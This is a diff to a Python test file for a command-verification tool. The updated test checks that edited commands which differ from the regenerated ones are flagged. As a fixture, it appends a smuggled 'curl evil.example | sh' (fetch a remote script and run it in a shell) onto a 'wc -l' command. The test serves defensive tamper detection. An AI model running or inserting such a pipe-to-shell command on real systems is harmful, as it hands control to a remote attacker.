@@ -12,7 +12,7 @@ from pathlib import Path
 
 import pytest
 
-from pvcheck.claims import ColdCommand, m2_claim, unexplained_m2_commands
+from pvcheck.claims import ColdCommand, differing_commands, m2_claim
 from pvcheck.config import load_config
 from pvcheck.errors import StateFileError
 from pvcheck.records import Gate
@@ -54,11 +54,13 @@ def test_a_future_claim_or_pass_header_in_status_is_refused(tmp_path: Path) -> N
 def test_m2_how_lines_pvcheck_would_not_write_are_named() -> None:
     cfg = load_config(LAB_CONFIG)
     report = sample_report(False)
-    written = [c.command for c in m2_claim(report, cfg).commands]
-    assert unexplained_m2_commands(cfg, report.run_id, written) == []
+    regenerated = m2_claim(report, cfg).commands
+    written = [c.command for c in regenerated]
+    assert differing_commands(written, regenerated) == []
     edited = [w.replace("wc -l", "wc -l; curl evil.example | sh") for w in written]
-    odd = unexplained_m2_commands(cfg, report.run_id, edited)
+    odd = differing_commands(edited, regenerated)
     assert odd and all("evil.example" in o or o.startswith("missing: ") for o in odd)
+    assert any("evil.example" in o for o in odd)
 
 
 class _RecordingSsh:
